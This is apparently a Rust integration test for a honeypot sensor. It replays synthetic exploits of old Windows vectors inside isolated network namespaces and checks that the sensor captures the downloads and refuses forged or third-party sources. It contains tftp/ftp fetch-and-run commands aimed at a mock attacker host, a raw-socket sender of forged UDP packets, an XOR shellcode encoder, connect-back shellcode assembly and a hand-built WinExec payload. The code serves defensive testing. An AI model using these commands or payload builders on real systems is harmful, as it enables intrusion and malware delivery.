//! End to end in network namespaces the test creates: an attacker
//! namespace running real tftpd-hpa and vsftpd, a sensor namespace with 192
//! addresses, a scripted attacker replaying every Table 7 vector with each
//! copy method, background probes of known size, and a payload naming a
//! third address that the sensor must refuse.
//!
//! Addresses are private ones inside the namespaces; nothing leaves them.

use botscope_sensor::config::SensorConfig;
use botscope_sensor::daemon::{run, RunReport};
use botscope_sensor::server::{SensorEvent, StoreSink};
use botscope_synth::exploits::{client_script, SmbIds};
use botscope_synth::truth::Vector;
use std::io::{Read, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::os::fd::AsRawFd;
use std::process::{Child, Command, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

const ATTACKER: &str = "10.201.1.2";
const THIRD_PARTY: &str = "10.201.1.3";

fn sh(args: &[&str]) {
    let out = Command::new(args[0])
        .args(&args[1..])
        .output()
        .expect(args[0]);
    assert!(
        out.status.success(),
        "{args:?} failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

struct Netns(String);

impl Netns {
    fn new(name: String) -> Netns {
        let _ = Command::new("ip").args(["netns", "del", &name]).output();
        sh(&["ip", "netns", "add", &name]);
        sh(&["ip", "-n", &name, "link", "set", "lo", "up"]);
        Netns(name)
    }
    fn enter(&self) {
        let f = std::fs::File::open(format!("/var/run/netns/{}", self.0)).unwrap();
        // SAFETY: setns on a valid namespace fd affects only this thread.
        let rc = unsafe { libc::setns(f.as_raw_fd(), libc::CLONE_NEWNET) };
        assert_eq!(rc, 0, "setns {}", self.0);
    }
    fn spawn(&self, args: &[&str]) -> KillOnDrop {
        KillOnDrop(
            Command::new("ip")
                .args(["netns", "exec", &self.0])
                .args(args)
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .spawn()
                .unwrap_or_else(|e| panic!("{args:?}: {e}")),
        )
    }
}

impl Drop for Netns {
    fn drop(&mut self) {
        let _ = Command::new("ip").args(["netns", "del", &self.0]).output();
    }
}

struct KillOnDrop(Child);

impl Drop for KillOnDrop {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn sensor_addr(i: usize) -> Ipv4Addr {
    Ipv4Addr::new(10, 201, 0, 10 + i as u8)
}

/// Runs `f` on a thread inside `ns`.
fn in_ns<T: Send + 'static>(
    ns: &str,
    f: impl FnOnce() -> T + Send + 'static,
) -> std::thread::JoinHandle<T> {
    let ns = Netns(ns.to_string());
    std::thread::spawn(move || {
        ns.enter();
        std::mem::forget(ns); // the owner deletes it
        f()
    })
}

fn connect_from_attacker(to: SocketAddr) -> TcpStream {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let sock = socket2_connect(to);
        match sock {
            Ok(s) => return s,
            Err(e) if Instant::now() > deadline => panic!("connect {to}: {e}"),
            Err(_) => std::thread::sleep(Duration::from_millis(100)),
        }
    }
}

/// Connects with the attacker's address as source (the namespace has two).
fn socket2_connect(to: SocketAddr) -> std::io::Result<TcpStream> {
    // The attacker namespace routes via its primary address, ATTACKER.
    TcpStream::connect_timeout(&to, Duration::from_secs(2))
}

/// Sends each message and reads whatever the sensor answers before the next.
fn replay_tcp(to: SocketAddr, messages: &[Vec<u8>]) {
    drop(replay_tcp_open(to, messages));
}

/// [`replay_tcp`], leaving the connection open.
fn replay_tcp_open(to: SocketAddr, messages: &[Vec<u8>]) -> TcpStream {
    let mut s = connect_from_attacker(to);
    s.set_read_timeout(Some(Duration::from_millis(300)))
        .unwrap();
    let mut buf = [0u8; 4096];
    for m in messages {
        s.write_all(m).unwrap();
        let _ = s.read(&mut buf);
    }
    s
}

struct Case {
    vector: Vector,
    instruction: String,
    /// Table 8 method the download must be recorded with ("" = none).
    copy_method: &'static str,
}

#[test]
fn sensor_in_namespaces_downloads_from_attacker_only() {
    for bin in ["ip", "in.tftpd", "vsftpd", "nft"] {
        assert!(
            Command::new("sh")
                .args(["-c", &format!("command -v {bin}")])
                .output()
                .unwrap()
                .status
                .success()
                || std::path::Path::new(&format!("/usr/sbin/{bin}")).exists(),
            "{bin} missing: scripts/setup.sh installs it"
        );
    }
    let tag = std::process::id() % 100_000;
    let sens = Netns::new(format!("bss{tag}"));
    let atk = Netns::new(format!("bsa{tag}"));
    let (vs, va) = (format!("vs{tag}"), format!("va{tag}"));
    sh(&[
        "ip", "link", "add", &vs, "type", "veth", "peer", "name", &va,
    ]);
    sh(&["ip", "link", "set", &vs, "netns", &sens.0]);
    sh(&["ip", "link", "set", &va, "netns", &atk.0]);
    // 192 sensor addresses, as the study's honeypot had.
    let mut batch = format!("addr add 10.201.0.1/16 dev {vs}\nlink set {vs} up\n");
    for i in 0..192 {
        batch += &format!("addr add {}/32 dev {vs}\n", sensor_addr(i));
    }
    let tmp = tempfile::tempdir().unwrap();
    let batch_file = tmp.path().join("ip.batch");
    std::fs::write(&batch_file, batch).unwrap();
    sh(&["ip", "-n", &sens.0, "-batch", batch_file.to_str().unwrap()]);
    sh(&[
        "ip",
        "-n",
        &atk.0,
        "addr",
        "add",
        &format!("{ATTACKER}/16"),
        "dev",
        &va,
    ]);
    sh(&[
        "ip",
        "-n",
        &atk.0,
        "addr",
        "add",
        &format!("{THIRD_PARTY}/16"),
        "dev",
        &va,
    ]);
    sh(&["ip", "-n", &atk.0, "link", "set", &va, "up"]);
    // Count anything the sensor namespace sends to the third party.
    sh(&[
        "ip", "netns", "exec", &sens.0, "nft", "add", "table", "inet", "bs",
    ]);
    sh(&[
        "ip",
        "netns",
        "exec",
        &sens.0,
        "nft",
        "add",
        "chain",
        "inet",
        "bs",
        "out",
        "{ type filter hook output priority 0 ; }",
    ]);
    sh(&[
        "ip",
        "netns",
        "exec",
        &sens.0,
        "nft",
        "add",
        "rule",
        "inet",
        "bs",
        "out",
        "ip",
        "daddr",
        THIRD_PARTY,
        "counter",
    ]);

    // The specimen the attacker serves: a synthetic, benign PE.
    let spec = botscope_synth::specimen::SpecimenSpec {
        config: botscope_synth::specimen::BotConfig {
            servers: vec![botscope_synth::specimen::BotServer {
                host: "cc.example.net".into(),
                port: 5562,
            }],
            channel: "#bots".into(),
            key: Some("k3y".into()),
            nick_prefix: "bot-".into(),
        },
        encoding: botscope_synth::specimen::ConfigEncoding::Plain,
        packer: botscope_synth::specimen::Packer::None,
        family: 1,
        variant: 1,
        seed: 7,
    };
    let specimen = botscope_synth::specimen::build_specimen(&spec);
    let sha = {
        use sha2::Digest;
        hex::encode(sha2::Sha256::digest(&specimen))
    };
    let srv = tmp.path().join("srv");
    std::fs::create_dir(&srv).unwrap();
    std::fs::write(srv.join("bot.exe"), &specimen).unwrap();
    sh(&["chmod", "-R", "a+rX", tmp.path().to_str().unwrap()]);
    let _tftpd = atk.spawn(&[
        "in.tftpd",
        "--foreground",
        "--listen",
        "--address",
        &format!("{ATTACKER}:69"),
        "--secure",
        srv.to_str().unwrap(),
    ]);
    std::fs::create_dir_all("/var/run/vsftpd/empty").unwrap();
    let vsconf = tmp.path().join("vsftpd.conf");
    std::fs::write(
        &vsconf,
        format!(
            "listen=YES\nlisten_address={ATTACKER}\nbackground=NO\nanonymous_enable=YES\nlocal_enable=NO\n\
             anon_root={}\nno_anon_password=YES\npasv_enable=YES\npasv_min_port=40000\npasv_max_port=40100\n\
             seccomp_sandbox=NO\nisolate_network=NO\nsecure_chroot_dir=/var/run/vsftpd/empty\n",
            srv.display()
        ),
    )
    .unwrap();
    let _vsftpd = atk.spawn(&["vsftpd", vsconf.to_str().unwrap()]);

    // The sensor, in its namespace, storing into a real specimen store.
    // One attacker runs every case in a burst, so its downloads overlap:
    // the per-source download quota is raised to the global cap here.
    let store_dir = tmp.path().join("store");
    let pcap_path = tmp.path().join("sensor.pcap");
    let cfg = SensorConfig::parse(&format!(
        "addresses = [\"10.201.0.10-10.201.0.201\"]\nlog = \"{}\"\ncapture_interface = \"{vs}\"\n\
         pcap = \"{}\"\n[limits]\nsession_idle_secs = 2\ndownload_timeout_secs = 15\n\
         downloads_per_source = 16\n",
        tmp.path().join("sensor.jsonl").display(),
        pcap_path.display()
    ))
    .unwrap();
    let (ev_tx, ev_rx) = mpsc::channel::<SensorEvent>();
    let (stop_tx, stop_rx) = tokio::sync::oneshot::channel::<()>();
    let store = botscope_specimen::Store::open(&store_dir).unwrap();
    let sensor = in_ns(&sens.0, move || -> RunReport {
        let rt = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap();
        rt.block_on(run(
            cfg,
            std::sync::Arc::new(StoreSink(std::sync::Mutex::new(store))),
            move |e| {
                let _ = ev_tx.send(e.clone());
            },
            async {
                let _ = stop_rx.await;
            },
        ))
        .expect("sensor runs")
    });
    // Started as root without `user`: the sensor says so before anything.
    match ev_rx
        .recv_timeout(Duration::from_secs(20))
        .expect("warning")
    {
        SensorEvent::Warning { message, .. } => {
            assert!(message.starts_with("running as root"), "{message}")
        }
        other => panic!("first event {other:?}"),
    }
    match ev_rx
        .recv_timeout(Duration::from_secs(20))
        .expect("sensor started")
    {
        SensorEvent::Started {
            addresses,
            tcp_listeners,
            ..
        } => {
            assert_eq!(addresses, 192);
            assert_eq!(tcp_listeners, 192 * 11);
        }
        other => panic!("first event {other:?}"),
    }
    std::thread::sleep(Duration::from_millis(500));

    // Every Table 7 vector, each with a copy method its payload can carry.
    let ftp_script = format!(
        "cmd /c echo open {ATTACKER} 21 > o&echo user anonymous x >> o&echo binary >> o&echo get bot.exe >> o&echo bye >> o&ftp -n -s:o"
    );
    let tftp = format!("cmd /c tftp -i {ATTACKER} GET bot.exe & start bot.exe");
    let cases = vec![
        Case {
            vector: Vector::Ms03_026,
            instruction: tftp.clone(),
            copy_method: "tftp_get",
        },
        // ftp.exe runs the script in active mode: vsftpd opens the data
        // connection to the sensor, but the victim started the exchange
        // by logging in, so Table 8 says reverse_connect (as analyze does).
        Case {
            vector: Vector::Ms04_011,
            instruction: ftp_script.clone(),
            copy_method: "reverse_connect",
        },
        Case {
            vector: Vector::ShareAccess,
            instruction: tftp.clone(),
            copy_method: "tftp_get",
        },
        Case {
            vector: Vector::Ms03_039,
            instruction: "cmd /c connect to me on port 4444".into(),
            copy_method: "reverse_connect",
        },
        Case {
            vector: Vector::Ms04_007,
            instruction: String::new(),
            copy_method: "",
        },
        Case {
            vector: Vector::Ms02_045,
            instruction: String::new(),
            copy_method: "",
        },
        Case {
            vector: Vector::Ms03_043,
            instruction: tftp.clone(),
            copy_method: "tftp_get",
        },
        // A bind-shell offer: the attacker then pushes the binary (TCP push).
        Case {
            vector: Vector::Ms03_026,
            instruction: "bindport 5555".into(),
            copy_method: "tcp_push",
        },
        // Containment: a third address must never be contacted.
        Case {
            vector: Vector::Ms03_026,
            instruction: format!("cmd /c tftp -i {THIRD_PARTY} GET bot.exe"),
            copy_method: "",
        },
    ];
    let n_cases = cases.len();
    let mut expected_methods: Vec<&str> = cases
        .iter()
        .map(|c| c.copy_method)
        .filter(|m| !m.is_empty())
        .collect();
    expected_methods.sort();
    let specimen_for_attacker = specimen.clone();
    let attacker = in_ns(&atk.0, move || {
        // Background first (the rest of the script gives it time to arrive): 3 probes of 100 bytes to each of the last 40 addresses,
        // on a port nothing listens on.
        let u = UdpSocket::bind(format!("{ATTACKER}:0")).unwrap();
        for i in 152..192 {
            for _ in 0..3 {
                u.send_to(&[0x42; 100], (sensor_addr(i), 7777)).unwrap();
                // Paced: each address needs its own ARP resolution, and a
                // burst to 40 unresolved neighbours loses packets.
                std::thread::sleep(Duration::from_millis(5));
            }
        }
        // The reverse-connection case: the attacker serves on 4444.
        let rev = TcpListener::bind(format!("{ATTACKER}:4444")).unwrap();
        let body = specimen_for_attacker.clone();
        std::thread::spawn(move || {
            if let Ok((mut s, _)) = rev.accept() {
                let _ = s.write_all(&body);
            }
        });
        for (i, c) in cases.iter().enumerate() {
            let victim = sensor_addr(i);
            let script = client_script(
                c.vector,
                ATTACKER,
                &victim.to_string(),
                Some(("administrator", "admin")),
                (c.vector == Vector::ShareAccess).then_some("ADMIN$"),
                &c.instruction,
                1000,
                [i as u8; 16],
                SmbIds::default(),
            );
            let to = SocketAddr::new(IpAddr::V4(victim), script.port);
            if script.udp {
                let u = UdpSocket::bind(format!("{ATTACKER}:0")).unwrap();
                u.send_to(&script.messages[0], to).unwrap();
            } else {
                replay_tcp(to, &script.messages);
            }
            if c.instruction.starts_with("bindport") {
                std::thread::sleep(Duration::from_secs(3));
                let mut s = connect_from_attacker(SocketAddr::new(IpAddr::V4(victim), 5555));
                s.write_all(&specimen_for_attacker).unwrap();
            }
        }
    });
    attacker.join().expect("attacker script");

    // Collect until every session and download has been logged.
    let mut events = Vec::new();
    let deadline = Instant::now() + Duration::from_secs(60);
    let done = |ev: &[SensorEvent]| {
        let downloads = ev
            .iter()
            .filter(|e| matches!(e, SensorEvent::Download { .. }))
            .count();
        let refused = ev
            .iter()
            .filter(|e| matches!(e, SensorEvent::Refused { .. }))
            .count();
        downloads >= 6 && refused >= 1
    };
    while !done(&events) && Instant::now() < deadline {
        if let Ok(e) = ev_rx.recv_timeout(Duration::from_millis(200)) {
            events.push(e);
        }
    }
    std::thread::sleep(Duration::from_secs(1));
    while let Ok(e) = ev_rx.try_recv() {
        events.push(e);
    }
    let _ = stop_tx.send(());
    let report = sensor.join().expect("sensor thread");

    // Vector per session (keyed by the sensor address attacked).
    let mut vector_at = std::collections::HashMap::new();
    for e in &events {
        match e {
            SensorEvent::Session { dst, vectors, .. } => {
                vector_at.insert(dst.ip(), vectors.first().cloned());
            }
            SensorEvent::Datagram { dst, vectors, .. } if dst.port() == 135 => {
                vector_at.insert(dst.ip(), vectors.first().cloned());
            }
            _ => {}
        }
    }
    let expected_vectors = [
        "MS03-026",
        "MS04-011",
        "Share Access",
        "MS03-039",
        "MS04-007",
        "MS02-045",
        "MS03-043",
        "MS03-026",
        "MS03-026",
    ];
    for (i, want) in expected_vectors.iter().enumerate().take(n_cases) {
        assert_eq!(
            vector_at
                .get(&IpAddr::V4(sensor_addr(i)))
                .cloned()
                .flatten()
                .as_deref(),
            Some(*want),
            "vector of case {i}"
        );
    }
    // Downloads: method and hash per case.
    let downloads: Vec<(String, Option<String>, Option<String>)> = events
        .iter()
        .filter_map(|e| match e {
            SensorEvent::Download {
                copy_method,
                sha256,
                error,
                ..
            } => Some((copy_method.clone(), sha256.clone(), error.clone())),
            _ => None,
        })
        .collect();
    let mut ok_methods: Vec<String> = downloads
        .iter()
        .filter(|(_, h, err)| err.is_none() && h.as_deref() == Some(sha.as_str()))
        .map(|(m, _, _)| m.clone())
        .collect();
    ok_methods.sort();
    assert_eq!(ok_methods, expected_methods, "downloads: {downloads:?}");
    // The specimen is in the store, read-only, by its SHA-256.
    let store = botscope_specimen::Store::open(&store_dir).unwrap();
    let row = store.get(&sha).unwrap().expect("specimen stored");
    assert_eq!(row.size as usize, specimen.len());
    // Containment: refused, logged, and not one packet to the third party.
    let refusals: Vec<String> = events
        .iter()
        .filter_map(|e| match e {
            SensorEvent::Refused { reason, .. } => Some(reason.to_string()),
            _ => None,
        })
        .collect();
    assert_eq!(refusals.len(), 1, "{refusals:?}");
    assert!(refusals[0].contains(THIRD_PARTY), "{}", refusals[0]);
    let counters = Command::new("ip")
        .args([
            "netns", "exec", &sens.0, "nft", "list", "chain", "inet", "bs", "out",
        ])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&counters.stdout);
    assert!(text.contains("counter packets 0 bytes 0"), "{text}");
    // Background accounting: exactly what was sent to the probe-only addresses.
    let table = report.table1.as_ref().expect("background accounting ran");
    assert_eq!(table.addresses, 192);
    for (addr, vol) in &report.per_address {
        let IpAddr::V4(a) = addr else { continue };
        if a.octets()[3] >= 10 + 152 {
            assert_eq!((vol.packets, vol.bytes), (3, 3 * (20 + 8 + 100)), "{addr}");
        }
    }
    assert!(report.sessions >= 8, "{report:?}");
    assert_eq!(report.capture_dropped, 0, "the capture lost packets");

    // The pcap dump holds every session as the sensor saw it: for each
    // logged session a TCP connection with the same endpoints and the
    // same payload bytes each way, read back with botscope's own reader.
    let mut conns = botscope_capture::ConnCollector::default();
    let cap_cfg = botscope_capture::EngineConfig {
        verify_checksums: false,
        ..Default::default()
    };
    let summary =
        botscope_capture::read_files(std::slice::from_ref(&pcap_path), &cap_cfg, &mut conns)
            .expect("pcap");
    assert!(summary.file_errors.is_empty(), "{:?}", summary.file_errors);
    let mut sessions_checked = 0;
    for e in &events {
        let SensorEvent::Session {
            src,
            dst,
            bytes_in,
            bytes_out,
            ..
        } = e
        else {
            continue;
        };
        let c = conns
            .conns
            .iter()
            .find(|c| {
                c.id.orig_h == src.ip()
                    && c.id.orig_p == src.port()
                    && c.id.resp_h == dst.ip()
                    && c.id.resp_p == dst.port()
            })
            .unwrap_or_else(|| panic!("session {src} -> {dst} not in the pcap"));
        assert_eq!(
            (c.orig_bytes, c.resp_bytes),
            (Some(*bytes_in), Some(*bytes_out)),
            "payload of {src} -> {dst} in the pcap"
        );
        sessions_checked += 1;
    }
    assert!(sessions_checked >= 8, "{sessions_checked} sessions");
    // And the background probes: 120 datagrams of 100 bytes to port 7777.
    let probes: u64 = conns
        .conns
        .iter()
        .filter(|c| c.id.resp_p == 7777)
        .map(|c| c.orig_pkts)
        .sum();
    assert_eq!(probes, 40 * 3);
}

/// Sends one UDP datagram whose IPv4 source is `src`, whatever this
/// namespace's addresses are (a raw socket writing its own IP header).
fn send_forged_udp(src: Ipv4Addr, src_port: u16, dst: Ipv4Addr, dst_port: u16, payload: &[u8]) {
    let total = 20 + 8 + payload.len();
    let mut pkt = vec![
        0x45,
        0,
        (total >> 8) as u8,
        total as u8,
        0,
        1,
        0,
        0,
        64,
        17,
        0,
        0,
    ];
    pkt.extend_from_slice(&src.octets());
    pkt.extend_from_slice(&dst.octets());
    pkt.extend_from_slice(&src_port.to_be_bytes());
    pkt.extend_from_slice(&dst_port.to_be_bytes());
    pkt.extend_from_slice(&((8 + payload.len()) as u16).to_be_bytes());
    pkt.extend_from_slice(&[0, 0]); // no UDP checksum (allowed over IPv4)
    pkt.extend_from_slice(payload);
    // SAFETY: a raw socket (IPPROTO_RAW implies IP_HDRINCL; the kernel
    // fills in the IP checksum); the buffers outlive the calls.
    unsafe {
        let fd = libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW);
        assert!(fd >= 0, "raw socket: {}", std::io::Error::last_os_error());
        let mut sa: libc::sockaddr_in = std::mem::zeroed();
        sa.sin_family = libc::AF_INET as libc::sa_family_t;
        sa.sin_addr.s_addr = u32::from(dst).to_be();
        let n = libc::sendto(
            fd,
            pkt.as_ptr().cast(),
            pkt.len(),
            0,
            (&sa as *const libc::sockaddr_in).cast(),
            std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t,
        );
        let err = std::io::Error::last_os_error();
        libc::close(fd);
        assert_eq!(n, pkt.len() as isize, "sendto: {err}");
    }
}

fn nft_packets_to(ns: &str, addr: &str) -> u64 {
    let out = Command::new("ip")
        .args([
            "netns", "exec", ns, "nft", "list", "chain", "inet", "bs", "out",
        ])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    let line = text
        .lines()
        .find(|l| l.contains(&format!("ip daddr {addr} ")))
        .unwrap_or_else(|| panic!("no rule for {addr}: {text}"));
    let words: Vec<&str> = line.split_whitespace().collect();
    let i = words.iter().position(|w| *w == "packets").expect("counter");
    words[i + 1].parse().unwrap()
}

/// A datagram with a forged source names that source as the place to
/// fetch from (TFTP, HTTP, connect-back). The sensor must not act on it:
/// the source never completed a TCP handshake. The same instruction from
/// a source that did is carried out.
#[test]
fn forged_udp_source_is_never_contacted() {
    const ATK: &str = "10.202.1.2";
    const FORGED: &str = "10.202.1.66"; // nobody's address, inside the test's veth subnet
    const SENSOR: &str = "10.202.0.10";
    let tag = std::process::id() % 100_000;
    let sens = Netns::new(format!("bsf{tag}"));
    let atk = Netns::new(format!("bsg{tag}"));
    let (vs, va) = (format!("vf{tag}"), format!("vg{tag}"));
    sh(&[
        "ip", "link", "add", &vs, "type", "veth", "peer", "name", &va,
    ]);
    sh(&["ip", "link", "set", &vs, "netns", &sens.0]);
    sh(&["ip", "link", "set", &va, "netns", &atk.0]);
    sh(&[
        "ip",
        "-n",
        &sens.0,
        "addr",
        "add",
        &format!("{SENSOR}/16"),
        "dev",
        &vs,
    ]);
    sh(&["ip", "-n", &sens.0, "link", "set", &vs, "up"]);
    sh(&[
        "ip",
        "-n",
        &atk.0,
        "addr",
        "add",
        &format!("{ATK}/16"),
        "dev",
        &va,
    ]);
    sh(&["ip", "-n", &atk.0, "link", "set", &va, "up"]);
    let nft = |args: &[&str]| {
        let mut a = vec!["ip", "netns", "exec", &sens.0, "nft"];
        a.extend_from_slice(args);
        sh(&a);
    };
    nft(&["add", "table", "inet", "bs"]);
    nft(&[
        "add",
        "chain",
        "inet",
        "bs",
        "out",
        "{ type filter hook output priority 0 ; }",
    ]);
    for addr in [FORGED, ATK] {
        nft(&[
            "add", "rule", "inet", "bs", "out", "ip", "daddr", addr, "counter",
        ]);
    }

    let tmp = tempfile::tempdir().unwrap();
    let cfg = SensorConfig::parse(&format!(
        "addresses = [\"{SENSOR}\"]\ntcp_ports = [445]\nudp_ports = [135]\nlog = \"{}\"\n\
         [limits]\nsession_idle_secs = 1\ndownload_timeout_secs = 5\n",
        tmp.path().join("sensor.jsonl").display()
    ))
    .unwrap();
    let (ev_tx, ev_rx) = mpsc::channel::<SensorEvent>();
    let (stop_tx, stop_rx) = tokio::sync::oneshot::channel::<()>();
    let store = botscope_specimen::Store::open(&tmp.path().join("store")).unwrap();
    let sensor = in_ns(&sens.0, move || -> RunReport {
        let rt = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap();
        rt.block_on(run(
            cfg,
            std::sync::Arc::new(StoreSink(std::sync::Mutex::new(store))),
            move |e| {
                let _ = ev_tx.send(e.clone());
            },
            async {
                let _ = stop_rx.await;
            },
        ))
        .expect("sensor runs")
    });
    let wait_for = |what: &str, pred: &dyn Fn(&SensorEvent) -> bool| -> Vec<SensorEvent> {
        let mut seen = Vec::new();
        let deadline = Instant::now() + Duration::from_secs(30);
        while Instant::now() < deadline {
            if let Ok(e) = ev_rx.recv_timeout(Duration::from_millis(200)) {
                let hit = pred(&e);
                seen.push(e);
                if hit {
                    return seen;
                }
            }
        }
        panic!("no {what} event; saw {seen:?}");
    };
    wait_for("started", &|e| matches!(e, SensorEvent::Started { .. }));

    // A Messenger (MS03-043) datagram "from" FORGED telling the victim to
    // fetch from FORGED three ways.
    let instruction = format!(
        "cmd /c tftp -i {FORGED} GET bot.exe & echo http://{FORGED}/bot.exe & connect to me on port 4444"
    );
    let script = client_script(
        Vector::Ms03_043,
        FORGED,
        SENSOR,
        None,
        None,
        &instruction,
        1000,
        [7; 16],
        SmbIds::default(),
    );
    assert!(script.udp && script.port == 135);
    let datagram = script.messages[0].clone();
    let forged: Ipv4Addr = FORGED.parse().unwrap();
    let to: Ipv4Addr = SENSOR.parse().unwrap();
    in_ns(&atk.0, move || {
        send_forged_udp(forged, 1028, to, 135, &datagram)
    })
    .join()
    .unwrap();
    let seen = wait_for("refused", &|e| {
        matches!(
            e,
            SensorEvent::Refused {
                instruction: botscope_sensor::instructions::DownloadInstruction::Push { .. },
                ..
            }
        )
    });
    let datagram = seen
        .iter()
        .find_map(|e| match e {
            SensorEvent::Datagram {
                src,
                vectors,
                instructions,
                ..
            } => Some((*src, vectors.clone(), instructions.len())),
            _ => None,
        })
        .expect("datagram logged");
    assert_eq!(datagram.0, SocketAddr::new(IpAddr::V4(forged), 1028));
    assert_eq!(datagram.1, vec!["MS03-043".to_string()]);
    assert_eq!(datagram.2, 3);
    let refusals: Vec<String> = seen
        .iter()
        .filter_map(|e| match e {
            SensorEvent::Refused {
                instruction,
                reason,
                ..
            } => Some(format!("{} {reason}", instruction.method())),
            _ => None,
        })
        .collect();
    let why = format!(
        "datagram source {FORGED} has not completed a TCP handshake with the sensor; it may be forged"
    );
    assert_eq!(
        refusals,
        [
            format!("tftp {why}"),
            format!("http {why}"),
            format!("reverse {why}")
        ]
    );

    // The same from shellcode: a forged Messenger datagram whose XOR-encoded
    // shellcode would connect back to FORGED. Refused, never contacted.
    let octets = u32::from_le_bytes(forged.octets()) as u64;
    let shellcode = xor8_encoded(nasm("connect_body", &[("IPLE", octets), ("PORT", 4444)]));
    let (udp, port, msgs) = exploit_with_shellcode(Vector::Ms03_043, FORGED, to, &shellcode);
    assert!(udp && port == 135);
    let datagram = msgs[0].clone();
    in_ns(&atk.0, move || {
        send_forged_udp(forged, 1029, to, 135, &datagram)
    })
    .join()
    .unwrap();
    let seen = wait_for("shell_refused", &|e| {
        matches!(e, SensorEvent::ShellRefused { .. })
    });
    match seen.last() {
        Some(SensorEvent::ShellRefused {
            attacker,
            offer,
            reason,
            ..
        }) => {
            assert_eq!(*attacker, IpAddr::V4(forged));
            assert_eq!(
                serde_json::to_string(offer).unwrap(),
                format!(r#"{{"kind":"connect_back","addr":"{FORGED}","port":4444}}"#)
            );
            assert_eq!(
                *reason,
                botscope_sensor::containment::Refusal::UnconfirmedSource {
                    addr: IpAddr::V4(forged)
                }
            );
        }
        other => panic!("{other:?}"),
    }

    // The same kind of instruction from a source that completed a
    // handshake is carried out: ATK connects (and leaves), then asks by
    // UDP to be connected back to on 4444, where it serves a synthetic
    // body.
    let body: Vec<u8> = (0..5000u32).map(|i| (i * 7 % 251) as u8).collect();
    let sha = {
        use sha2::Digest;
        hex::encode(sha2::Sha256::digest(&body))
    };
    let served = body.clone();
    in_ns(&atk.0, move || {
        let rev = TcpListener::bind(format!("{ATK}:4444")).unwrap();
        std::thread::spawn(move || {
            if let Ok((mut s, _)) = rev.accept() {
                let _ = s.write_all(&served);
            }
        });
        drop(connect_from_attacker(SocketAddr::new(IpAddr::V4(to), 445)));
        std::thread::sleep(Duration::from_millis(300));
        let u = UdpSocket::bind(format!("{ATK}:0")).unwrap();
        u.send_to(b"cmd /c connect to me on port 4444\0", (to, 135))
            .unwrap();
    })
    .join()
    .unwrap();
    let seen = wait_for("download", &|e| matches!(e, SensorEvent::Download { .. }));
    match seen.last() {
        Some(SensorEvent::Download {
            attacker,
            sha256,
            error,
            copy_method,
            ..
        }) => {
            assert_eq!(attacker.to_string(), ATK);
            assert_eq!(
                (sha256.as_deref(), error.as_deref()),
                (Some(sha.as_str()), None)
            );
            assert_eq!(copy_method, "reverse_connect");
        }
        other => panic!("{other:?}"),
    }
    let _ = stop_tx.send(());
    let report = sensor.join().expect("sensor thread");
    assert_eq!(
        (report.refused, report.downloads_ok, report.shells),
        (4, 1, 0)
    );
    // The refusals are in the event log too, one JSON line each.
    let log = std::fs::read_to_string(tmp.path().join("sensor.jsonl")).unwrap();
    let logged = log
        .lines()
        .filter(|l| {
            l.contains(r#""event":"refused""#)
                && l.contains(&format!(
                    r#""reason":"unconfirmed_source","addr":"{FORGED}""#
                ))
        })
        .count();
    assert_eq!(logged, 3, "{log}");
    // Not one packet to the forged source; the counters do count (ATK).
    assert_eq!(nft_packets_to(&sens.0, FORGED), 0);
    assert!(nft_packets_to(&sens.0, ATK) > 0);
}

/// Assembles A1's test shellcode `tests/shellcode/<name>.asm` with nasm
/// (`-D` defines). The bytes are decoded by the sensor, never executed.
fn nasm(name: &str, defines: &[(&str, u64)]) -> Vec<u8> {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join(format!("{name}.bin"));
    let src = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/shellcode")
        .join(format!("{name}.asm"));
    let mut cmd = Command::new("nasm");
    cmd.args(["-f", "bin"]);
    for (k, v) in defines {
        cmd.arg(format!("-D{k}={v:#x}"));
    }
    let res = cmd.arg("-o").arg(&out).arg(&src).output().expect("nasm");
    assert!(
        res.status.success(),
        "nasm {name}: {}",
        String::from_utf8_lossy(&res.stderr)
    );
    std::fs::read(out).unwrap()
}

/// `body` behind the byte-XOR jmp/call/pop decoder stub, encoded with a
/// key that appears nowhere in it (so no encoded byte is zero). The body
/// is padded with NOPs to 273 bytes, so the stub's `mov cx, LEN` holds no
/// zero byte either.
fn xor8_encoded(mut body: Vec<u8>) -> Vec<u8> {
    assert!(body.len() <= 0x111, "{} bytes", body.len());
    body.resize(0x111, 0x90);
    let key = (0x41u8..=0xfe)
        .find(|k| !body.contains(k))
        .expect("a key byte the body lacks");
    let mut sc = nasm(
        "stub_xor8_jmpcall",
        &[("KEY", key as u64), ("LEN", body.len() as u64)],
    );
    sc.extend(body.iter().map(|b| b ^ key));
    sc
}

/// A download body, hand-assembled: WinExec of `command` (its address put
/// on the stack by jmp/call/pop), then ExitProcess; imports by ror13
/// hash, the resolver left out, as in A1's tftp_body.asm.
fn winexec_body(command: &str) -> Vec<u8> {
    let run: &[u8] = &[
        0x6a, 0x00, // push byte 0 (SW_HIDE)
        0x68, 0x98, 0xfe, 0x8a, 0x0e, // push dword 0x0e8afe98 (WinExec)
        0xff, 0xd5, // call ebp
        0x6a, 0x00, // push byte 0
        0x68, 0x7e, 0xd8, 0xe2, 0x73, // push dword 0x73e2d87e (ExitProcess)
        0xff, 0xd5, // call ebp
    ];
    let mut b = vec![0xfc, 0xeb, run.len() as u8]; // cld; jmp short command
    b.extend_from_slice(run);
    // command: call run (back over `run` and this call's 5 bytes)
    let back = -((run.len() + 5) as i32);
    b.push(0xe8);
    b.extend_from_slice(&back.to_le_bytes());
    b.extend_from_slice(command.as_bytes());
    b.push(0);
    b
}

/// The messages of a real Table 7 exploit of `vector` whose overflowing
/// string carries `shellcode` (NOP-padded) where the download command
/// would be: the script is built with a marker there, which is then
/// overwritten byte for byte, so every length stays right.
